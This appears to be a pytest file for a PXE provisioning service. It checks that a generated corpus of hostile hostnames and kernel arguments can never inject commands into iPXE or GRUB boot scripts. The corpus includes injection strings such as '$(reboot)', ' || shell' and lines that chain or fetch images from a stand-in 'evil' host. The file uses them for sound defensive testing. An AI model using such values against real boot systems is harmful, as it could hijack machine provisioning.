"""Pure modules: deployment request validation, plan assembly, and boot-script rendering — including a
generated corpus of hostile values that must never add a line or command to a script."""
from __future__ import annotations

import itertools
import random

import pytest

from metalstream.contracts import rules
from metalstream.errors import BadInput
from pxe.plan import build_plan
from pxe.render import InstallerBoot, Renderer, RenderError
from pxe.schemas.base import parse
from pxe.schemas.deployments import DeploymentCreate

from conftest import public_key_line

DEP_ID = "9f1c2e4a-0000-4000-8000-000000000001"
TOKEN = f"{DEP_ID}.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"


def _installer(**overrides) -> InstallerBoot:
    values = dict(base_url="http://10.0.2.2:8080", token=TOKEN, deployment_id=DEP_ID, mac="52:54:00:12:34:56",
                  image="tiny", hostname="node-1", kernel_args=("quiet",))
    values.update(overrides)
    return InstallerBoot(**values)


def _structure(script: str) -> list[str]:
    """The command word of every line: what iPXE or GRUB would execute."""
    return [line.split()[0] if line.split() else "" for line in script.splitlines()]


# Characters and snippets that could break out of a kernel command line or a script line.
_BAD_PIECES = ["\n", "\r", "\r\n", " ", "\t", ";", "&", "|", "$", "\\", "`", "{", "}", "${x}", "$(reboot)", "#",
               "'", '"', "\x00", "\x0b", "\x0c", "\x1b[2J", "é", "\u2028", "\u0085", "ｓ", "<", ">", "*", "?", "!",
               "%0a", "\nshell\n", "\nchain http://evil/x\n", " || shell", " && boot", "\n:label\ngoto label",
               "\r\nimgfetch http://evil", "\n}\nmenuentry x {", "\nset root=(hd0)"]
_PREFIXES = ["", "a", "node-1", "console=ttyS0", "1", "x.y"]
_SUFFIXES = ["", "b", "-2", "=1", ".example"]


def hostile_corpus(size: int = 1200) -> list[str]:
    values = [p + piece + s for p, piece, s in itertools.product(_PREFIXES, _BAD_PIECES, _SUFFIXES)]
    rng = random.Random(4)
    alphabet = [chr(c) for c in range(0, 0x80)] + ["é", "\u2028", "\u00a0", "\ufeff"]
    while len(values) < size:  # random strings that contain at least one non-[A-Za-z0-9._:/=,+@-] character
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 12)))
        if not rules.KERNEL_ARG.match(text):
            values.append(text)
    return values


def test_hostile_corpus_is_large_and_hostile():
    corpus = hostile_corpus()
    assert len(corpus) >= 1000
    assert all(not rules.KERNEL_ARG.match(v) for v in corpus)


def test_renderer_refuses_every_hostile_value():
    renderer = Renderer()
    reference_ipxe = _structure(renderer.installer_ipxe(_installer()))
    reference_grub = _structure(renderer.installer_grub(_installer()))
    rendered = 0
    for value in hostile_corpus():
        for field in ("hostname", "kernel_args", "image", "mac", "deployment_id", "token", "base_url"):
            boot = _installer(**{field: (value,) if field == "kernel_args" else value})
            for render, reference in ((renderer.installer_ipxe, reference_ipxe),
                                      (renderer.installer_grub, reference_grub)):
                try:
                    script = render(boot)
                except RenderError:
                    continue
                rendered += 1  # only reachable if a value was accepted: it must not change the structure
                assert _structure(script) == reference, (field, value)
        for render in (renderer.local_ipxe, renderer.local_grub, renderer.chain_ipxe, renderer.chain_grub):
            with pytest.raises(RenderError):
                render(value)
        with pytest.raises(RenderError):
            renderer.local_grub("52:54:00:12:34:56", value)
    assert rendered == 0  # every one of them was refused by the renderer itself


def test_api_validation_rejects_every_hostile_value():
    for value in hostile_corpus():
        for body, field in (({"hostname": value}, "hostname"), ({"kernel_args": [value]}, "kernel_args[0]")):
            with pytest.raises(BadInput) as exc:
                parse(DeploymentCreate, {"mac": "52:54:00:12:34:56", "image": "tiny", **body})
            assert exc.value.location == field, (value, exc.value)


def test_hostile_corpus_through_the_api(pxe_env):
    """The same corpus against the real endpoint: every request is a 400, nothing is stored or rendered."""
    corpus = hostile_corpus()
    statuses = set()
    for i, value in enumerate(corpus):
        body = {"mac": "52:54:00:12:34:56", "image": "tiny"}
        body["hostname" if i % 2 else "kernel_args"] = value if i % 2 else [value]
        statuses.add(pxe_env.post_deployment(body).status_code)
    assert statuses == {400}
    assert pxe_env.client.get("/api/v1/deployments", headers=pxe_env.read).get_json()["deployments"] == []
    script = pxe_env.client.get("/boot/52:54:00:12:34:56.ipxe").get_data(as_text=True)
    assert _structure(script) == ["#!ipxe", "#", "iseq", "sanboot"]


def test_valid_values_render_on_one_line():
    renderer = Renderer()
    script = renderer.installer_ipxe(_installer(kernel_args=("console=ttyS0,115200", "ip=dhcp", "root=/dev/sda2")))
    assert _structure(script) == ["#!ipxe", "#", "kernel", "initrd", "boot"]
    assert script.splitlines()[2].endswith("console=ttyS0,115200 console=ttyS0,115200 ip=dhcp root=/dev/sda2")


def test_plan_kickstart_storage_and_overrides():
    ops_key, ks_key, deploy_key = (public_key_line("ops@x", seed=1), public_key_line("ks@x", "ssh-rsa", seed=2),
                                   public_key_line("metalstream-deploy", seed=3))
    request = parse(DeploymentCreate, {"mac": "52:54:00:12:34:56", "image": "tiny", "kernel_args": ["quiet"],
                                       "ssh_keys": [ops_key]}).request()
    storage = {"hostname": "from-ks", "network": [{"device": "eth0", "bootproto": "static", "ip": "10.0.0.9",
                                                   "line": 4}],
               "bootloader": {"append": "console=tty0"}, "ssh_keys": [{"user": "root", "key": ks_key, "line": 7}]}
    image = {"name": "tiny", "url_path": "/images/tiny.tar.zst", "sha256": "a" * 64, "size": 5, "manifest": None}
    plan = build_plan(deployment_id=DEP_ID, request=request, storage=storage, image=image,
                      base_url="http://s:1", deploy_public_key=deploy_key)
    assert plan["hostname"] == "from-ks"
    assert [(n["device"], n["bootproto"], n["ip"], n["line"]) for n in plan["network"]] == \
        [("eth0", "static", "10.0.0.9", None)]
    assert plan["kernel_args"] == "quiet"  # the request's args win over the kickstart's bootloader --append
    assert plan["ssh_keys"] == [deploy_key, ops_key, ks_key]
    assert plan["image"]["url"] == "http://s:1/images/tiny.tar.zst"
    request["kernel_args"] = []
    request["hostname"] = "node-9"
    plan = build_plan(deployment_id=DEP_ID, request=request, storage=storage, image=image, base_url="http://s:1",
                      deploy_public_key=deploy_key)
    assert plan["kernel_args"] == "console=tty0" and plan["hostname"] == "node-9"


@pytest.mark.parametrize("root_uuid", [None, "0a1b2c3d-1111-2222-3333-444455556666"])
def test_local_grub_configs_are_valid_grub_scripts(tmp_path, root_uuid):
    from metalstream import proc
    config = Renderer().local_grub("52:54:00:12:34:56", root_uuid)
    path = tmp_path / "local.cfg"
    path.write_text(config)
    proc.run(["grub-script-check", path], timeout=30)  # raises on a syntax error
    if root_uuid:
        assert f"search --no-floppy --fs-uuid --set=root {root_uuid}" in config and "--file /boot/grub" not in config
    else:
        assert "search --no-floppy --set=root --file /boot/grub/grub.cfg" in config and "--fs-uuid" not in config
    assert config.endswith("sleep 5\nexit\n")
